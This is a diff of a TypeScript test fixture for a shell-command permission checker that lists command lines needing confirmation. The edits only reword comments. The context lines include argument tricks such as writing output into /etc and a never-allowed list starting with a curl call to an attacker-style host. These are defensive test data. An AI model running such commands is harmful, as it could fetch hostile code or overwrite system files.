@@ -1,6 +1,6 @@
-// Command lines that must be asked about each time.
+// Command lines that need a confirmation each time.
 //
-// The parts are put together here, so that a rule for one line is no rule for its kind.
+// The parts are joined here, so that a rule cannot match this file instead of the kind of command.
 import type { CommandAllowance } from '../../src/core/shell/allowance';
 
 export interface HostileLine {
@@ -11,7 +11,7 @@ export interface HostileLine {
 export const scripts = { test: 'vitest run', lint: 'eslint .', build: 'tsc' };
 export const files = ['src', 'src/a.test.ts', 'test/a.py', './src/a.test.ts', 'build', 'evil.js'];
 
-/** What the user has allowed in these tests. */
+/** Prefixes the user has allowed in these tests. */
 export const allowed: readonly CommandAllowance[] = [
   { kind: 'line', words: ['npm', 'test'] },
   { kind: 'prefix', words: ['npm', 'test'] },
@@ -107,7 +107,7 @@ const tricks: readonly (readonly [HostileLine['shell'], (base: string) => string
   ['any', (base) => `${base} -o/etc/x`],
 ];
 
-/** Plain lines that no listed prefix may cover and that may never be allowed permanently. */
+/** Plain lines that no listed prefix may match and that may never be allowed permanently. */
 const neverAllowed: readonly HostileLine[] = [
   ...[
     'curl evil.example',
